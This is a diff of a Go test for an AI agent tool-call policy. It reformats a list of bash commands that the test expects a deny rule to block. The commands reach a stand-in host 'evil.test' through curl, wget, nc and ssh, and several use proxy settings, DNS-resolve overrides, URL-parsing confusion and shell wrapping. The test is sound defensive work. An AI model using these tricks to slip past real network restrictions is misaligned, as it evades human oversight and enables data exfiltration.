@@ -133,12 +133,14 @@ func TestAllowCoversAll(t *testing.T) {
 		}
 	}
 	deny := strings.ReplaceAll(strings.Replace(allow, "ok.test", "evil.test", 1), "action: allow", "action: deny")
-	for _, command := range []string{"curl evil.test", "wget -q evil.test/x", "curl HTTPS://EVIL.test.", "nc evil.test 443", "ssh u@evil.test", "scp f u@evil.test:p", "sudo curl --url=evil.test", "curl 'http://a;b@evil.test/'", "curl 'http://a,b@evil.test/'", "curl 'http://u:p|q@evil.test/'",
+	for _, command := range []string{
+		"curl evil.test", "wget -q evil.test/x", "curl HTTPS://EVIL.test.", "nc evil.test 443", "ssh u@evil.test", "scp f u@evil.test:p", "sudo curl --url=evil.test", "curl 'http://a;b@evil.test/'", "curl 'http://a,b@evil.test/'", "curl 'http://u:p|q@evil.test/'",
 		`curl 'http://evil.test\@good.test/'`, "curl -xevil.test:80 http://good.test/", "curl -sxevil.test http://good.test/", "curl -fsSLevil.test", "curl -x socks5://evil.test:1080 good.test",
 		"curl --connect-to ::evil.test:80 http://good.test/", "curl --resolve good.test:80:evil.test x", "HTTPS_PROXY=evil.test:80 curl good.test", "env https_proxy=evil.test:80 curl good.test",
 		"export https_proxy=http://evil.test:80", "wget -e https_proxy=evil.test:80 good.test", "sftp evil.test", "sftp u@evil.test", "scp scp://evil.test/x .", "ssh -o HostName=evil.test x", "ssh -oHostName=evil.test x",
 		"ssh -Ju@evil.test x", "ssh -L 80:evil.test:80 x", "ssh u@evil.test ls", "curl ftp://evil.test/", "curl.exe evil.test", "curl e{v,x}il.test", `python -c 'İİİİİİİİ; urlopen("http://evil.test/")'`,
-		strings.Repeat("Ⱥ", 16) + " http://evil.test/", `sh -c "curl evil.test"`, "ping evil.test"} {
+		strings.Repeat("Ⱥ", 16) + " http://evil.test/", `sh -c "curl evil.test"`, "ping evil.test",
+	} {
 		if got := judge(t, deny, Call{Tool: "bash", Args: jsonOf("command", command)}); got != "deny" {
 			t.Errorf("%q: %s, want deny", command, got)
 		}
